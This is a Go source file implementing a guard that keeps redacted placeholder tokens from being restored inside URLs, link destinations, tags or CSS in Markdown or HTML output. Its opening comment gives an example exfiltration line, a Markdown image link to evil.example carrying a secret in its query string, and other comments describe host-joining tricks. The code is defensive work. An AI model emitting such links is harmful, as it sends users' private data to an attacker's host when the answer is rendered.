package token

import "strings"

// URLGuard returns the guard against the oldest way out: a model is made to
// write ![](https://evil.example/?q=[EMAIL_7K3QXM]) and whoever shows the answer
// fetches it. In every place that some reader of Markdown or HTML could take
// for a part of a URL the token stays a token.
//
// Such places are: a run without white space that holds a scheme, "//", "www.",
// or a host with a path; an open link destination, whole or as a reference
// definition; an unclosed tag; all text after a script, style or form tag;
// CSS url(); and a token that what follows would turn into a part of an address.
// A bare mailto: address is allowed. The guard errs on the side of the token.
//
// In a lane of any length its state is of constant size.
func URLGuard() Guard { return urlGuard{} }

type urlGuard struct{}

func (urlGuard) LookAhead() int { return maxLookAhead }

func (urlGuard) Allow(before, after string) bool {
	var t urlTrack
	t.write(before)
	// Not knowing the value, take it for an address, which more can happen to.
	ok, _ := t.allow("@.", after, true)
	return ok
}

func (urlGuard) track() track { return &urlTrack{} }

// joined: a literal behind a value, and ".evil.example" behind that, would make
// one address of all three.
func (t *urlTrack) joined() bool { return t.run.secret }

// allow says no where the text so far makes the place a part of a URL, or what
// follows would.
func (t *urlTrack) allow(value, after string, final bool) (ok, settled bool) {
	if t.stuck || t.tags != 0 || t.angle || t.def != defNone || t.css > 0 {
		return false, true
	}
	if t.run.mailto {
		return mailtoEnds(value, after, t.depth > 0, final)
	}
	if t.depth > 0 || t.run.url || t.run.at {
		return false, true
	}
	if t.run.secret && strings.ContainsAny(value, "@:/") || t.run.query && strings.ContainsRune(value, '@') {
		// The value would be the host that another value, or itself, is sent to.
		return false, true
	}
	if t.last() == '<' {
		return bracketEnds(value, after, final)
	}
	return follows(value, after, final)
}

// mailtoEnds allows a whole and bare address, as a destination or as a word.
func mailtoEnds(value, after string, dest, final bool) (ok, settled bool) {
	switch {
	case !isAddress(value):
		return false, true
	case after == "":
		return final && !dest, final
	case dest:
		return after[0] == ')', true
	}
	return isSpace(after[0]), true
}

// bracketEnds allows "Jane <[EMAIL_7K3QXM]>": a tag of that form has no attributes.
func bracketEnds(value, after string, final bool) (ok, settled bool) {
	if strings.ContainsAny(value, "<>\"'=:/ \t\r\n") {
		return false, true
	}
	if after == "" {
		return false, final
	}
	return after[0] == '>', true
}

// follows decides by what stands behind the value: jane@example.com becomes
// another address in front of ".evil.example", jane in front of "@evil.example".
func follows(value, after string, final bool) (ok, settled bool) {
	address := strings.ContainsRune(value, '@')
	host := strings.ContainsRune(value, '.')
	dot := false
	for i := range min(len(after), maxLookAhead) {
		b := after[i]
		switch {
		case b == '@':
			return false, true
		case b == '/' && (host || dot) && (i == 0 || dot):
			return false, true
		case (b == '?' || b == '#') && dot:
			return false, true
		case b == '&' && i == 0:
			// An entity may stand for any of these.
			if len(after) < 2 {
				return final, final
			}
			if after[1] == '#' || isLetter(after[1]) {
				return false, true
			}
		case b == ':' && (i == 0 || dot):
			if i+1 == maxLookAhead {
				return false, true
			}
			if i+1 == len(after) {
				return final, final
			}
			if after[i+1] == '/' || dot && isDigit(after[i+1]) {
				return false, true
			}
		case address && domainByte(b) && b != '.' && onlyDomain(after[:i]):
			if b != '-' && b != '_' {
				return false, true
			}
		case b == '.':
			dot = true
		}
		if !localByte(b) {
			return true, true
		}
	}
	if len(after) >= maxLookAhead {
		return false, true // a run this long is no prose
	}
	return final, final
}

// onlyDomain reports whether s could continue the domain of an address.
func onlyDomain(s string) bool {
	for i := range len(s) {
		if !domainByte(s[i]) {
			return false
		}
	}
	return true
}

// isAddress reports whether s is a bare e-mail address without anything that
// has a meaning in a mailto: URL.
func isAddress(s string) bool {
	at := strings.IndexByte(s, '@')
	if at <= 0 || at == len(s)-1 {
		return false
	}
	for i := range len(s) {
		if i != at && !domainByte(s[i]) && (s[i] != '+' || i > at) {
			return false
		}
	}
	return true
}

// domainByte reports whether b may be part of the domain of an address.
func domainByte(b byte) bool { return wordByte(b) || b == '.' || b == '-' }

// localByte reports whether b may stand before the @ of an address.
func localByte(b byte) bool { return localBytes[b] }

var localBytes = func() (t [256]bool) {
	for b := range t {
		t[b] = wordByte(byte(b)) || strings.IndexByte(".!#$%&'*+/=?^`{|}~-", byte(b)) >= 0
	}
	return t
}()

func isDigit(b byte) bool { return '0' <= b && b <= '9' }

func isSpace(b byte) bool { return b == ' ' || '\t' <= b && b <= '\r' }
